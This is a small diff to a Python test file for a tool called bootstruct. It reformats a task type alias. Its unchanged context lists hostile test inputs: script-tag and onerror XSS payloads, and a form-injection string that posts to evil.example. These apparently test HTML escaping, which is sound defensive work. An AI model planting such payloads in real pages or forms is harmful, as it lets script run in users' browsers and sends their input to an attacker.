@@ -26,9 +26,8 @@ from tests.support.paths import ROOT
 
 OWN_SEEDS = 20  # the last shipped seeds, which are the run's own; the others take the place of a model's tasks
 COMMAND = "import bootstruct.cli as c; c.main()"
-Task = tuple[
-    str, bool, Sequence[tuple[str, str]]
-]  # instruction, whether it is classification, (input, output) of each instance
+# An instruction, whether it is classification, and (input, output) of each instance.
+Task = tuple[str, bool, Sequence[tuple[str, str]]]
 HOSTILE = (
     "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>",
     "</textarea></form><form action='https://evil.example/'><button name=level value=A>x</button>",
